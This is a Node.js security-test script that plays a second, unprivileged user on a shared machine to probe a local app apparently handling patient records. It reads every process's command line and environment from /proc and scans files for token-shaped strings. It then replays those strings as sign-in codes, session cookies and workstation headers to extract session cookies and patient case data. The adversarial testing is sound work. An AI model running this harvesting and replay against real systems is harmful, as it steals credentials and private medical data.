// Run as a second, unprivileged OS user on the same machine (see other-os-user.test.ts): it does
// what the adversarial run did on a shared desktop. Until told to stop (or its time is up) it reads
// every process's command line and environment, and every file it can reach under the folders it
// is given; anything shaped like a sign-in code or the session secret is tried against the bridge.
// It prints one JSON line: what it saw, and any session cookie or patient data it got.
//
// Usage: node other-user-probe.mjs <originFile> <stopFile> <maxMs> <folder>...
import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { performance } from 'node:perf_hooks';

const [originFile, stopFile, maxMsText, ...folders] = process.argv.slice(2);
const maxMs = Number(maxMsText);
// Tokens from command lines and environments are always tried; file contents (a shared /tmp is
// full of hashes) only up to a cap, so the run stays bounded.
const MAX_FILE_CANDIDATES = 3000;
const MAX_CANDIDATES = 20000;
const MAX_ENTRIES_PER_WALK = 5000;
const MAX_FILE_BYTES = 512 * 1024;
const TRIES_PER_ROUND = 16;

const report = { cmdlines: 0, environs: 0, environsRefused: 0, filesRead: 0, sawAppWindow: false, candidates: 0, tries: 0, cookies: [], patientData: [] };
const candidates = new Set();
const queue = [];
const fileSeen = new Map();

// Codes are 24 random bytes (32 base64url characters); the session secret is 32 bytes (43).
const TOKEN = /(?<![A-Za-z0-9_-])([A-Za-z0-9_-]{32}|[A-Za-z0-9_-]{43})(?![A-Za-z0-9_-])/g;

let fileCandidates = 0;
function harvest(text, fromFile = false) {
  for (const match of text.matchAll(TOKEN)) {
    const token = match[1];
    if (candidates.has(token) || candidates.size >= MAX_CANDIDATES) continue;
    if (fromFile && fileCandidates >= MAX_FILE_CANDIDATES) continue;
    if (fromFile) fileCandidates += 1;
    candidates.add(token);
    // What a process shows is tried first: that is where a code was found before.
    if (fromFile) queue.push(token);
    else queue.unshift(token);
  }
}

function readProcesses() {
  let pids;
  try {
    pids = readdirSync('/proc').filter((name) => /^\d+$/.test(name));
  } catch {
    return;
  }
  for (const pid of pids) {
    try {
      const cmdline = readFileSync(`/proc/${pid}/cmdline`).toString('latin1').replace(/\0/g, ' ');
      report.cmdlines += 1;
      if (cmdline.includes('--app=')) report.sawAppWindow = true;
      harvest(cmdline);
    } catch {
      // Gone, or not ours to read.
    }
    try {
      harvest(readFileSync(`/proc/${pid}/environ`).toString('latin1').replace(/\0/g, ' '));
      report.environs += 1;
    } catch {
      report.environsRefused += 1;
    }
  }
}

function walk(dir) {
  const stack = [dir];
  let entries = 0;
  while (stack.length > 0 && entries < MAX_ENTRIES_PER_WALK) {
    const current = stack.pop();
    let names;
    try {
      names = readdirSync(current);
    } catch {
      continue;
    }
    for (const name of names) {
      entries += 1;
      const path = join(current, name);
      harvest(path, true);
      let stat;
      try {
        stat = statSync(path);
      } catch {
        continue;
      }
      if (stat.isDirectory()) stack.push(path);
      else if (stat.isFile() && stat.size <= MAX_FILE_BYTES) {
        const key = `${stat.mtimeMs}:${stat.size}`;
        if (fileSeen.get(path) === key) continue;
        try {
          harvest(readFileSync(path).toString('latin1'), true);
          fileSeen.set(path, key);
          report.filesRead += 1;
        } catch {
          // Not readable by this account.
        }
      }
    }
  }
}

async function attempt(origin, token) {
  const cookieName = `bw_session_${new URL(origin).port}`;
  const tries = [
    () => fetch(`${origin}/sign-in?code=${token}`, { redirect: 'manual' }),
    () =>
      fetch(`${origin}/sign-in`, {
        method: 'POST',
        redirect: 'manual',
        headers: { 'Content-Type': 'application/x-www-form-urlencoded', Origin: 'null' },
        body: `code=${token}`,
      }),
  ];
  for (const call of tries) {
    report.tries += 1;
    const answer = await call().catch(() => undefined);
    const setCookie = answer?.headers.get('set-cookie');
    if (setCookie) {
      report.cookies.push(setCookie.split(';')[0]);
      await listCases(origin, { Cookie: setCookie.split(';')[0] });
    }
  }
  // The token used as the secret itself, as a cookie and as the in-process header.
  await listCases(origin, { Cookie: `${cookieName}=${token}` });
  await listCases(origin, { 'x-workstation-token': token });
}

async function listCases(origin, headers) {
  report.tries += 1;
  const answer = await fetch(`${origin}/api/case:list`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json', Origin: origin, ...headers },
    body: '{}',
  }).catch(() => undefined);
  if (answer?.status === 200) report.patientData.push((await answer.text()).slice(0, 500));
}

const started = performance.now();
console.log('polling');
let origin;
while (performance.now() - started < maxMs && !existsSync(stopFile)) {
  readProcesses();
  for (const folder of folders) walk(folder);
  if (origin === undefined && existsSync(originFile)) origin = readFileSync(originFile, 'utf8').trim();
  // A few tries a round, so /proc is read again soon: a shared /tmp can queue hundreds of file
  // tokens, and draining them all first once kept the probe from ever seeing the window open.
  if (origin !== undefined) for (let i = 0; i < TRIES_PER_ROUND && queue.length > 0; i += 1) await attempt(origin, queue.shift());
  await new Promise((resolve) => setTimeout(resolve, 10));
}
// One last look, then everything seen is tried.
readProcesses();
if (origin !== undefined) while (queue.length > 0) await attempt(origin, queue.shift());
report.candidates = candidates.size;
console.log(JSON.stringify(report));
